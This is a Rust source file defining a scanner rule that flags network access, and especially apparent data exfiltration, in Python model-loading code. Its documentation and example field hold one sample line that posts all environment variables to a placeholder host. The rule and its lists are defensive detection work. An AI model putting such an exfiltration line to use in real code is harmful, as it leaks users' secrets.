use super::loading::{self, Host, Target, arg, quote};
use crate::resolve::Resolver;
use crate::rules::{Issue, Options, Rule, rule};
use crate::walk::Ctx;
use trustscan_core::Level::{self, High, Low, Medium};
use trustscan_pyparse::syntax::{self as ast, Expr};

rule! {
    /// TS103 network_access.
    ///
    /// ## What it does
    /// Reports calls that contact the network: `requests` (functions and `Session` methods),
    /// `urllib.request.urlopen`/`urlretrieve`/`build_opener().open` (and Python 2's `urllib`,
    /// `urllib2`), `http.client` connections, `urllib3`, `httpx`, `aiohttp`, socket
    /// connections (`create_connection`, `socket().connect`/`sendto`/`bind`) and DNS lookups,
    /// `ftplib`, `smtplib`, `telnetlib`, `poplib`, `imaplib`, `paramiko` SSH, websockets,
    /// `git.Repo.clone_from`, download helpers (`torch.hub.download_url_to_file`,
    /// `load_state_dict_from_url`, `wget.download`, `gdown.download`, Keras `get_file`,
    /// torchvision `download_url`), and hub access to other repositories (huggingface_hub
    /// downloads and `HfApi` methods, ModelScope, OpenCSG, openMind, `datasets.load_dataset`).
    /// Process-based downloads (`curl`, `wget` in a shell) are TS107's.
    ///
    /// The message names what is contacted (the folded URL, host or repository id). Medium by
    /// default; High when the data sent carries environment variables, file contents, tokens
    /// or the machine's identity, when the host is a paste site, URL shortener, webhook
    /// collector or tunnel, a raw public IP address, or the transport is unencrypted, and when
    /// data is uploaded to a hub; Low for this machine and private networks.
    ///
    /// ## Why is this bad?
    /// Loading a model should read files, not talk to servers. Network access from model code
    /// can fetch code or data that the scan never sees, report on the user, or carry their
    /// secrets away (CWE-829: inclusion of functionality from an untrusted control sphere).
    ///
    /// ## Example
    /// ```python
    /// requests.post("https://example.invalid/c", json=dict(os.environ))
    /// ```
    pub struct NetworkAccess {
        id: "TS103",
        name: "network_access",
        cwe: 829,
        severity: Medium,
        confidence: High,
        kinds: [Call],
        example: "requests.post(\"https://example.invalid/c\", json=dict(os.environ))",
    }
}

/// How a call names what it contacts.
#[derive(Clone, Copy)]
enum Endpoint {
    /// A URL argument (keyword, position), and where the request body is (positions
    /// and keywords to scan for sensitive data).
    Url(&'static str, usize),
    /// A host name argument.
    Host(&'static str, usize),
    /// A socket address (`(host, port)`).
    Address(usize),
    /// A repository id on a hub.
    Repo(&'static str, usize),
    /// A hub API method (repository in `repo_id=` if anywhere).
    HubApi,
}

/// Functions, by canonical name.
const FUNCTIONS: &[(&str, Endpoint)] = &[
    ("requests.get", Endpoint::Url("url", 0)),
    ("requests.head", Endpoint::Url("url", 0)),
    ("requests.options", Endpoint::Url("url", 0)),
    ("requests.delete", Endpoint::Url("url", 0)),
    ("requests.post", Endpoint::Url("url", 0)),
    ("requests.put", Endpoint::Url("url", 0)),
    ("requests.patch", Endpoint::Url("url", 0)),
    ("requests.request", Endpoint::Url("url", 1)),
    ("requests.api.get", Endpoint::Url("url", 0)),
    ("requests.api.post", Endpoint::Url("url", 0)),
    ("requests.api.request", Endpoint::Url("url", 1)),
    ("urllib.request.urlopen", Endpoint::Url("url", 0)),
    ("urllib.request.urlretrieve", Endpoint::Url("url", 0)),
    ("urllib.urlopen", Endpoint::Url("url", 0)),
    ("urllib.urlretrieve", Endpoint::Url("url", 0)),
    ("urllib2.urlopen", Endpoint::Url("url", 0)),
    ("six.moves.urllib.request.urlopen", Endpoint::Url("url", 0)),
    (
        "six.moves.urllib.request.urlretrieve",
        Endpoint::Url("url", 0),
    ),
    (
        "urllib.request.build_opener().open",
        Endpoint::Url("fullurl", 0),
    ),
    ("urllib2.build_opener().open", Endpoint::Url("fullurl", 0)),
    ("http.client.HTTPConnection", Endpoint::Host("host", 0)),
    ("http.client.HTTPSConnection", Endpoint::Host("host", 0)),
    ("httplib.HTTPConnection", Endpoint::Host("host", 0)),
    ("httplib.HTTPSConnection", Endpoint::Host("host", 0)),
    ("urllib3.request", Endpoint::Url("url", 1)),
    ("urllib3.HTTPConnectionPool", Endpoint::Host("host", 0)),
    ("urllib3.HTTPSConnectionPool", Endpoint::Host("host", 0)),
    ("urllib3.connection_from_url", Endpoint::Url("url", 0)),
    ("httpx.get", Endpoint::Url("url", 0)),
    ("httpx.head", Endpoint::Url("url", 0)),
    ("httpx.options", Endpoint::Url("url", 0)),
    ("httpx.delete", Endpoint::Url("url", 0)),
    ("httpx.post", Endpoint::Url("url", 0)),
    ("httpx.put", Endpoint::Url("url", 0)),
    ("httpx.patch", Endpoint::Url("url", 0)),
    ("httpx.request", Endpoint::Url("url", 1)),
    ("httpx.stream", Endpoint::Url("url", 1)),
    ("aiohttp.request", Endpoint::Url("url", 1)),
    ("socket.create_connection", Endpoint::Address(0)),
    ("socket.getaddrinfo", Endpoint::Host("host", 0)),
    ("socket.gethostbyname", Endpoint::Host("hostname", 0)),
    ("socket.gethostbyname_ex", Endpoint::Host("hostname", 0)),
    ("socket.socket().connect", Endpoint::Address(0)),
    ("socket.socket().connect_ex", Endpoint::Address(0)),
    ("socket.socket().sendto", Endpoint::Address(1)),
    ("socket.socket().bind", Endpoint::Address(0)),
    ("ftplib.FTP", Endpoint::Host("host", 0)),
    ("ftplib.FTP_TLS", Endpoint::Host("host", 0)),
    ("ftplib.FTP().connect", Endpoint::Host("host", 0)),
    ("smtplib.SMTP", Endpoint::Host("host", 0)),
    ("smtplib.SMTP_SSL", Endpoint::Host("host", 0)),
    ("smtplib.LMTP", Endpoint::Host("host", 0)),
    ("smtplib.SMTP().connect", Endpoint::Host("host", 0)),
    ("telnetlib.Telnet", Endpoint::Host("host", 0)),
    ("telnetlib.Telnet().open", Endpoint::Host("host", 0)),
    ("poplib.POP3", Endpoint::Host("host", 0)),
    ("poplib.POP3_SSL", Endpoint::Host("host", 0)),
    ("imaplib.IMAP4", Endpoint::Host("host", 0)),
    ("imaplib.IMAP4_SSL", Endpoint::Host("host", 0)),
    (
        "paramiko.SSHClient().connect",
        Endpoint::Host("hostname", 0),
    ),
    (
        "paramiko.client.SSHClient().connect",
        Endpoint::Host("hostname", 0),
    ),
    ("paramiko.Transport", Endpoint::Address(0)),
    ("websocket.create_connection", Endpoint::Url("url", 0)),
    ("websocket.WebSocketApp", Endpoint::Url("url", 0)),
    ("websockets.connect", Endpoint::Url("uri", 0)),
    ("websockets.client.connect", Endpoint::Url("uri", 0)),
    ("websockets.sync.client.connect", Endpoint::Url("uri", 0)),
    ("git.Repo.clone_from", Endpoint::Url("url", 0)),
    ("torch.hub.download_url_to_file", Endpoint::Url("url", 0)),
    (
        "torch.hub.load_state_dict_from_url",
        Endpoint::Url("url", 0),
    ),
    ("torch.utils.model_zoo.load_url", Endpoint::Url("url", 0)),
    ("wget.download", Endpoint::Url("url", 0)),
    ("gdown.download", Endpoint::Url("url", 0)),
    ("gdown.cached_download", Endpoint::Url("url", 0)),
    ("gdown.download_folder", Endpoint::Url("url", 0)),
    ("keras.utils.get_file", Endpoint::Url("origin", 1)),
    (
        "tensorflow.keras.utils.get_file",
        Endpoint::Url("origin", 1),
    ),
    (
        "torchvision.datasets.utils.download_url",
        Endpoint::Url("url", 0),
    ),
    (
        "torchvision.datasets.utils.download_and_extract_archive",
        Endpoint::Url("url", 0),
    ),
    (
        "huggingface_hub.hf_hub_download",
        Endpoint::Repo("repo_id", 0),
    ),
    (
        "huggingface_hub.snapshot_download",
        Endpoint::Repo("repo_id", 0),
    ),
    (
        "huggingface_hub.file_download.hf_hub_download",
        Endpoint::Repo("repo_id", 0),
    ),
    (
        "huggingface_hub._snapshot_download.snapshot_download",
        Endpoint::Repo("repo_id", 0),
    ),
    ("huggingface_hub.cached_download", Endpoint::Url("url", 0)),
    (
        "modelscope.snapshot_download",
        Endpoint::Repo("model_id", 0),
    ),
    (
        "modelscope.model_file_download",
        Endpoint::Repo("model_id", 0),
    ),
    (
        "modelscope.dataset_snapshot_download",
        Endpoint::Repo("dataset_id", 0),
    ),
    (
        "modelscope.hub.snapshot_download.snapshot_download",
        Endpoint::Repo("model_id", 0),
    ),
    (
        "modelscope.hub.snapshot_download.dataset_snapshot_download",
        Endpoint::Repo("dataset_id", 0),
    ),
    (
        "modelscope.hub.file_download.model_file_download",
        Endpoint::Repo("model_id", 0),
    ),
    (
        "modelscope.msdatasets.MsDataset.load",
        Endpoint::Repo("dataset_name", 0),
    ),
    (
        "modelscope.MsDataset.load",
        Endpoint::Repo("dataset_name", 0),
    ),
    (
        "pycsghub.snapshot_download.snapshot_download",
        Endpoint::Repo("repo_id", 0),
    ),
    (
        "pycsghub.file_download.file_download",
        Endpoint::Repo("repo_id", 0),
    ),
    (
        "openmind_hub.snapshot_download",
        Endpoint::Repo("repo_id", 0),
    ),
    ("openmind_hub.om_hub_download", Endpoint::Repo("repo_id", 0)),
    ("datasets.load_dataset", Endpoint::Repo("path", 0)),
    ("datasets.load_dataset_builder", Endpoint::Repo("path", 0)),
];

/// Classes whose instances' request methods contact the network: (class, url position
/// of `request`-style methods).
const CLIENTS: &[&str] = &[
    "requests.Session",
    "requests.session",
    "requests.sessions.Session",
    "httpx.Client",
    "httpx.AsyncClient",
    "aiohttp.ClientSession",
    "urllib3.PoolManager",
    "urllib3.ProxyManager",
];

/// huggingface_hub functions (besides downloads) that call the Hub API.
static HUB_FUNCTIONS: crate::rules::Names = crate::rules::Names::new(&[
    "model_info",
    "dataset_info",
    "space_info",
    "repo_info",
    "list_models",
    "list_datasets",
    "list_repo_files",
    "list_repo_refs",
    "list_repo_commits",
    "list_repo_tree",
    "file_exists",
    "repo_exists",
    "whoami",
    "upload_file",
    "upload_folder",
    "upload_large_folder",
    "create_repo",
    "create_commit",
    "create_branch",
    "delete_repo",
    "delete_file",
]);

/// Last names the cheap filter lets through (functions above, client methods).
static LAST: crate::rules::Names = crate::rules::Names::new(&[
    "get",
    "head",
    "options",
    "delete",
    "post",
    "put",
    "patch",
    "request",
    "urlopen",
    "urlretrieve",
    "open",
    "HTTPConnection",
    "HTTPSConnection",
    "HTTPConnectionPool",
    "HTTPSConnectionPool",
    "connection_from_url",
    "stream",
    "ws_connect",
    "create_connection",
    "getaddrinfo",
    "gethostbyname",
    "gethostbyname_ex",
    "connect",
    "connect_ex",
    "sendto",
    "bind",
    "FTP",
    "FTP_TLS",
    "SMTP",
    "SMTP_SSL",
    "LMTP",
    "Telnet",
    "POP3",
    "POP3_SSL",
    "IMAP4",
    "IMAP4_SSL",
    "Transport",
    "WebSocketApp",
    "clone_from",
    "download_url_to_file",
    "load_state_dict_from_url",
    "load_url",
    "download",
    "cached_download",
    "download_folder",
    "get_file",
    "download_url",
    "download_and_extract_archive",
    "hf_hub_download",
    "snapshot_download",
    "model_file_download",
    "dataset_snapshot_download",
    "file_download",
    "om_hub_download",
    "load",
    "load_dataset",
    "load_dataset_builder",
    "request_encode_url",
    "request_encode_body",
]);

impl Rule for NetworkAccess {
    fn check(&self, ctx: &Ctx, _options: &Options) -> Option<Issue> {
        let call = ctx.call()?;
        let hub_method = matches!(&*call.func, Expr::Attribute(a)
            if HUB_FUNCTIONS.contains(a.attr.as_str()) || a.attr.as_str().starts_with("upload_")
                || a.attr.as_str().starts_with("create_") || a.attr.as_str().ends_with("_info")
                || a.attr.as_str().starts_with("list_"));
        let r = Resolver::new(ctx);
        let f = if hub_method {
            loading::method_callee(&r, &call.func)
        } else {
            loading::callee_if(&r, call, &LAST)
        };
        if f.is_empty() {
            return None;
        }
        let (f, endpoint) = match endpoint(&f) {
            Some(e) => (f, e),
            None => {
                let g = reexported(&f)?;
                let e = endpoint(&g)?;
                (g, e)
            }
        };
        // `exec(requests.get(url).text)` is TS101's, which names the download.
        if super::support::inside_code_runner(ctx, &r) {
            return None;
        }
        report(ctx, &r, call, &f, endpoint)
    }
}

/// A network client module re-exported by another package
/// (`huggingface_hub.utils.httpx.get` is `httpx.get`).
fn reexported(f: &str) -> Option<String> {
    ["httpx", "requests", "urllib3", "aiohttp"]
        .iter()
        .find_map(|m| {
            let i = f.find(&format!(".{m}."))?;
            Some(f[i + 1..].to_string())
        })
}

fn endpoint(f: &str) -> Option<Endpoint> {
    if let Some((_, e)) = FUNCTIONS.iter().find(|(n, _)| *n == f) {
        return Some(*e);
    }
    // Client methods: `requests.Session().get`, `httpx.Client().post`, ...
    if let Some((class, method)) = f.rsplit_once("().") {
        if CLIENTS.contains(&class) {
            return match method {
                "get" | "head" | "options" | "delete" | "post" | "put" | "patch" | "stream"
                    if !class.starts_with("urllib3") =>
                {
                    Some(Endpoint::Url("url", 0))
                }
                "ws_connect" => Some(Endpoint::Url("url", 0)),
                "request" | "urlopen" | "request_encode_url" | "request_encode_body" => {
                    Some(Endpoint::Url("url", 1))
                }
                _ => None,
            };
        }
        if class == "huggingface_hub.HfApi"
            || class == "huggingface_hub.hf_api.HfApi"
            || class == "modelscope.hub.api.HubApi"
            || class == "modelscope.HubApi"
            || class == "openmind_hub.OmApi"
        {
            return (!method.starts_with('_')).then_some(Endpoint::HubApi);
        }
        return None;
    }
    let (module, func) = f.rsplit_once('.')?;
    if (module == "huggingface_hub" || module == "huggingface_hub.hf_api")
        && (HUB_FUNCTIONS.contains(func) || func.starts_with("upload_"))
    {
        return Some(Endpoint::HubApi);
    }
    None
}

/// Packaged `datasets` builders that read local files.
const DATASET_BUILDERS: &[&str] = &[
    "json",
    "csv",
    "parquet",
    "text",
    "arrow",
    "pandas",
    "imagefolder",
    "audiofolder",
    "videofolder",
    "webdataset",
    "xml",
    "sql",
    "generator",
    "cache",
];

fn report<'a>(
    ctx: &Ctx<'_, 'a>,
    r: &Resolver<'_, '_, 'a>,
    call: &'a ast::ExprCall,
    f: &str,
    endpoint: Endpoint,
) -> Option<Issue> {
    // What data goes out with the request.
    let sends = ["data", "json", "files", "params", "body", "fields"]
        .iter()
        .filter_map(|k| arg(call, k, None))
        .chain(body_positional(f, call))
        .find_map(|e| loading::sensitive(r, e));
    let (target, host, sends) = match endpoint {
        Endpoint::Url(k, p) => {
            let e = arg(call, k, Some(p))?;
            // `urlopen(Request(url, data))`.
            let (e, request_body) = unwrap_request(r, e);
            let sends_url = loading::sensitive_in_url(r, e);
            let body = request_body.and_then(|b| loading::sensitive(r, b));
            let t = loading::target(ctx, r, e);
            let host = match &t {
                Target::Url(u) => loading::host_of(u),
                _ => Host::Unknown,
            };
            let sends = sends.or(body).or(sends_url);
            (t, host, sends)
        }
        Endpoint::Host(k, p) => {
            let Some(e) = arg(call, k, Some(p)) else {
                // `ftplib.FTP()` without a host connects later, through `.connect`.
                return None;
            };
            if f.starts_with("socket.") && is_own_host(r, e) {
                return None;
            }
            let t = loading::target(ctx, r, e);
            let host = match &t {
                Target::Repo(h) | Target::Url(h) => loading::host_of(h),
                _ => Host::Unknown,
            };
            (t, host, sends)
        }
        Endpoint::Address(p) => {
            let e = arg(call, "address", Some(p))?;
            let host_expr = match e {
                Expr::Tuple(t) => t.elts.first()?,
                other => other,
            };
            let t = loading::target(ctx, r, host_expr);
            let host = match &t {
                Target::Repo(h) | Target::Url(h) => loading::host_of(h),
                _ => Host::Unknown,
            };
            if f.ends_with(".bind") {
                return bind(f, e, &t, &host);
            }
            let data = if f.ends_with(".sendto") {
                call.arguments
                    .args
                    .first()
                    .and_then(|d| loading::sensitive(r, d))
            } else {
                None
            };
            (t, host, sends.or(data))
        }
        Endpoint::Repo(k, p) => {
            let e = arg(call, k, Some(p)).or_else(|| arg(call, "repo_id", None))?;
            let t = loading::target(ctx, r, e);
            if t.is_local() {
                return None;
            }
            if f.starts_with("datasets.")
                && let Target::Repo(name) = &t
                && DATASET_BUILDERS.contains(&name.as_str())
            {
                let remote_files =
                    arg(call, "data_files", None).map(|d| loading::target(ctx, r, d));
                let Some(Target::Url(url)) = remote_files else {
                    return None;
                };
                let host = loading::host_of(&url);
                let what = format!("the data files at {}", quote(&url));
                return Some(grade(f, &what, &host, sends, Extra::None));
            }
            let what = match &t {
                Target::Repo(id) => format!("the hub repository {}", quote(id)),
                other => other.describe("a repository id"),
            };
            return Some(grade(f, &what, &Host::Unknown, sends, Extra::None));
        }
        Endpoint::HubApi => {
            let method = f.rsplit(['.', ')']).next().unwrap_or("");
            let writes = [
                "upload_",
                "create_",
                "delete_",
                "update_",
                "add_",
                "move_",
                "duplicate_",
            ]
            .iter()
            .any(|p| method.starts_with(p))
                || method == "super_squash_history";
            let what = arg(call, "repo_id", None)
                .map(|e| match loading::target(ctx, r, e) {
                    Target::Repo(id) => format!("the hub repository {}", quote(&id)),
                    other => other.describe("a repository id"),
                })
                .unwrap_or_else(|| "the Hub API".into());
            let extra = if writes { Extra::Uploads } else { Extra::None };
            return Some(grade(f, &what, &Host::Unknown, sends, extra));
        }
    };
    let noun = match endpoint {
        Endpoint::Url(..) => "a URL",
        Endpoint::Host(..) => "a host",
        _ => "an address",
    };
    let what = match &target {
        Target::Url(u) => quote(u),
        Target::Repo(h) => format!("the host {}", quote(h)),
        t => t.describe(noun),
    };
    let plain = match &target {
        Target::Url(u) => {
            let (scheme, _) = loading::split_url(u);
            matches!(scheme.as_str(), "http" | "ftp" | "ws" | "telnet")
        }
        _ => {
            f.ends_with("HTTPConnection")
                || f.ends_with("HTTPConnectionPool")
                || f == "ftplib.FTP"
                || f.starts_with("ftplib.FTP()")
                || f.starts_with("telnetlib.")
        }
    };
    let extra = if plain {
        Extra::Unencrypted
    } else {
        Extra::None
    };
    Some(grade(f, &what, &host, sends, extra))
}

/// Positional request bodies: `requests.post(url, data, json)`, `urlopen(url, data)`.
fn body_positional<'a>(f: &str, call: &'a ast::ExprCall) -> Vec<&'a Expr> {
    let args = &call.arguments.args;
    let from = match f.rsplit(['.', ')']).next().unwrap_or("") {
        "post" | "put" | "patch" | "urlopen" | "open" => 1,
        "request" => 2,
        _ => return Vec::new(),
    };
    args.iter().skip(from).collect()
}

/// `urllib.request.Request(url, data)` passed (directly or through a name) to `urlopen`.
fn unwrap_request<'a>(r: &Resolver<'_, '_, 'a>, e: &'a Expr) -> (&'a Expr, Option<&'a Expr>) {
    let call = match e {
        Expr::Call(c) => Some(c),
        Expr::Name(n) => match r.single(n.id.as_str()) {
            Some(Expr::Call(c)) => Some(c),
            _ => None,
        },
        _ => None,
    };
    if let Some(c) = call
        && matches!(
            r.callee(&c.func).as_str(),
            "urllib.request.Request" | "urllib2.Request" | "six.moves.urllib.request.Request"
        )
        && let Some(url) = arg(c, "url", Some(0))
    {
        return (url, arg(c, "data", Some(1)));
    }
    (e, None)
}

/// `socket.gethostbyname(socket.gethostname())`, `"localhost"`: this machine.
fn is_own_host<'a>(r: &Resolver<'_, '_, 'a>, e: &'a Expr) -> bool {
    match e {
        Expr::Call(c) => matches!(
            r.callee(&c.func).as_str(),
            "socket.gethostname" | "socket.getfqdn" | "platform.node"
        ),
        _ => r
            .fold_str(e)
            .is_some_and(|h| matches!(loading::host_of(&h), Host::Local) || h.is_empty()),
    }
}

fn bind(f: &str, addr: &Expr, target: &Target, host: &Host) -> Option<Issue> {
    // Port 0 asks the system for a free port: the usual way to pick one for
    // distributed training; nothing listens yet.
    if let Expr::Tuple(t) = addr
        && let Some(Expr::NumberLiteral(n)) = t.elts.get(1)
        && matches!(&n.value, ast::Number::Int(i) if i.as_u64() == Some(0))
    {
        return None;
    }
    let (severity, scope) = match host {
        Host::Local if !matches!(target, Target::Repo(h) if h == "0.0.0.0" || h.is_empty()) => {
            (Low, "on this machine")
        }
        _ => (Medium, "reachable from the network"),
    };
    Some(Issue::new(
        severity,
        Medium,
        format!(
            "{f} binds a socket to {} ({scope}): model code that opens a listening port \
             accepts connections while the model is loaded.",
            target.describe("an address")
        ),
    ))
}

/// What else makes a request stand out.
#[derive(Clone, Copy, PartialEq, Eq)]
enum Extra {
    None,
    /// Plain HTTP, FTP, telnet or ws.
    Unencrypted,
    /// Writes to a hub.
    Uploads,
}

/// The issue for contacting `what` at `host`, sending `sends`.
fn grade(f: &str, what: &str, host: &Host, sends: Option<&str>, extra: Extra) -> Issue {
    let (severity, confidence, why): (Level, Level, String) = if let Some(s) = sends {
        (
            High,
            High,
            format!(" and sends {s} with the request: the shape of exfiltration"),
        )
    } else if extra == Extra::Uploads {
        (
            High,
            High,
            " and writes to it: model code that uploads data while loading can carry files \
             or secrets away"
                .into(),
        )
    } else {
        match host {
            Host::Suspicious(h) => (
                High,
                High,
                format!(
                    "; {} is a paste, webhook, tunnel or URL-shortener service, used to hide \
                     where data goes or comes from",
                    quote(h)
                ),
            ),
            Host::RawIp(ip) => (
                High,
                Medium,
                format!(
                    "; the raw IP address {} hides who runs the server",
                    quote(ip)
                ),
            ),
            Host::Local => (Low, High, " (this machine or a private network)".into()),
            _ if extra == Extra::Unencrypted => (
                High,
                Medium,
                " over an unencrypted connection: anyone on the path can read or replace \
                 what is transferred"
                    .into(),
            ),
            _ => (Medium, High, String::new()),
        }
    };
    Issue::new(
        severity,
        confidence,
        format!(
            "{f} contacts the network: {what}{why}. Loading a model should not need the \
             network; what is fetched or sent here is outside this scan."
        ),
    )
}
